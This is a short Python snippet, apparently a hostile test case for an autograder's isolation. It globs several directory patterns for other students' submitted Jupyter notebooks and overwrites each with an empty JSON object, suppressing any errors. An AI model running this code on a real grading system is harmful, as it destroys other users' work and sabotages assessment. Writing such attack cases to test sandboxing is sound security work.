# attack: Cross-student: overwrite other students' submitted notebooks
import glob, os
for pattern in ("../../*/*/*.ipynb", "../../../submitted/*/*/*.ipynb", "/work/**/submitted/*/*/*.ipynb",
                "/tmp/**/submitted/*/*/*.ipynb"):
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, "w").write("{}")
        except Exception:
            pass
